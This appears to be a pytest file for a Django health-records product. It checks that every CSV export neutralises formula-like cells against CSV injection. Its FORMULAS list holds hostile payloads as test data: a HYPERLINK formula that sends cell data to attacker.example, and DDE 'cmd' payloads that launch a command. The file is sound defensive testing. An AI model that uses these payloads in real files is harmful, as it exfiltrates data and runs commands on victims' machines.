"""Every CSV the product writes is safe to open in a spreadsheet: a cell that would be read as a
formula comes out behind a single quote (OWASP's advice on CSV injection), whichever export
wrote it (the access report, the emergency-access queue, the relationship import's results),
because every one of them writes through records.safe_csv."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from access import services
from access.models import Role, Team
from records.safe_csv import csv_lines, neutralised
from tests.factories import PatientFactory, UserFactory, make_team, member
from tests.import_helpers import check, run

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_starting_like_a_formula_is_written_behind_a_single_quote(cell):
    line = next(csv_lines([[cell, "plain"]]))
    assert next(csv.reader(io.StringIO(line, newline=""))) == ["'" + cell, "plain"]


@pytest.mark.parametrize("cell", ["Mile End Surgery", "a=b", "2026-11-25T10:00:00+00:00", ""])
def test_other_cells_are_written_as_they_are(cell):
    assert neutralised(cell) == cell


def test_numbers_are_written_as_numbers():
    assert next(csv_lines([[-3, 4]])) == '"-3","4"\r\n'


@pytest.mark.django_db
@pytest.mark.parametrize("name", FORMULAS)
def test_a_team_named_like_a_formula_is_neutralised_in_the_access_report_csv(client, name):
    practice = make_team(name, Team.Kind.GP_PRACTICE, ods_code="=1+1")
    privacy = make_team("Privacy office", Team.Kind.RECORD_OFFICE, ods_code="LCR")
    patient = PatientFactory()
    services.start_relationship(
        patient=patient, team=practice, kind="registered_gp", reason="r",
        actor=UserFactory(username="office"),
    )  # fmt: skip
    client.force_login(member(practice, Role.GP, "@gp"))
    client.get(reverse("patient-record", kwargs={"patient_id": patient.pk}))
    client.force_login(member(privacy, Role.PRIVACY_OFFICER, "officer"))

    response = client.get(
        reverse("audit-access-report", kwargs={"patient_id": patient.pk}), {"format": "csv"}
    )

    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    gp_row = dict(zip(rows[0], next(row for row in rows if "'@gp" in row), strict=True))
    assert (gp_row["organisation"], gp_row["organisation_ods_code"]) == ("'" + name, "'=1+1")
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_every_csv_the_product_writes_goes_through_the_one_helper():
    root = Path(__file__).resolve().parent.parent
    writers = [
        str(path.relative_to(root))
        for app in ("partner_api", "records", "access", "audit", "care_record", "lcr", "demo")
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b", path.read_text())
    ]
    assert writers == ["records/safe_csv.py"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_formula(rows: list[list[str]]) -> bool:
    return not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


@pytest.mark.django_db
@pytest.mark.parametrize("name", FORMULAS)
def test_a_team_named_like_a_formula_is_neutralised_in_the_emergency_access_queue_csv(client, name):
    ward = make_team(name, Team.Kind.AE_DEPARTMENT, ods_code="+44")
    privacy = make_team("Privacy office", Team.Kind.RECORD_OFFICE, ods_code="LCR")
    services.break_glass(
        user=member(ward, Role.AE_CLINICIAN, "@doctor"), team=ward, patient=PatientFactory(),
        reason="other", explanation="-unconscious, brought in by ambulance",
    )  # fmt: skip
    client.force_login(member(privacy, Role.PRIVACY_OFFICER, "officer"))

    response = client.get(reverse("audit-review-queue-csv"))

    rows = _rows(b"".join(response.streaming_content).decode())
    row = dict(zip(rows[0], rows[1], strict=True))
    assert "'" + name in row.values() and "'+44" in row.values() and "'@doctor" in row.values()
    assert "'-unconscious, brought in by ambulance" in row.values()
    assert _no_formula(rows)


@pytest.mark.django_db
# (The import strips the spaces round a cell, so a team's name read from one has none.)
@pytest.mark.parametrize("name", [formula for formula in FORMULAS if formula == formula.strip()])
def test_a_team_named_like_a_formula_is_neutralised_in_the_import_results_csv(client, name):
    make_team(name, Team.Kind.COMMUNITY_TEAM, ods_code="=2+2")
    office = make_team("Record office", Team.Kind.RECORD_OFFICE, ods_code="LCR")
    client.force_login(member(office, Role.ADMINISTRATOR, "office-admin"))
    patient = PatientFactory()
    person = UserFactory(username="@nurse")
    text = io.StringIO()
    csv.writer(text).writerows([
        ["nhs_number", "team_ods_code", "team_name", "username", "kind", "reason"],
        [patient.nhs_number, "=2+2", name, "", "referral", "wound care"],
        [patient.nhs_number, "", "", person.username, "referral", "=visits"],
    ])  # fmt: skip
    kept = check(client, text.getvalue(), name="=cmd.csv")
    results_csv = reverse("manage-import-results-csv", kwargs={"import_id": kept.pk})
    check_csv = client.get(results_csv)
    run(client, kept)

    response = client.get(results_csv)

    for written in (check_csv, response):
        rows = _rows(b"".join(written.streaming_content).decode())
        holders = [dict(zip(rows[0], row, strict=True))["team_or_person"] for row in rows[1:]]
        assert holders == [f"'{name} (=2+2)", "'@nurse"]
        assert _no_formula(rows)


@pytest.mark.django_db
def test_the_access_report_columns_csv_is_written_through_the_one_helper(client, monkeypatch):
    from audit import report_views

    written = []
    monkeypatch.setattr(
        report_views, "csv_lines", lambda rows: written.append(1) or csv_lines(rows)
    )
    privacy = make_team("Privacy office", Team.Kind.RECORD_OFFICE, ods_code="LCR")
    client.force_login(member(privacy, Role.PRIVACY_OFFICER, "officer"))

    response = client.get(reverse("audit-access-report-columns"))

    rows = _rows(b"".join(response.streaming_content).decode())
    assert written and rows[0] == ["column", "meaning", "values"]
    assert _no_formula(rows)
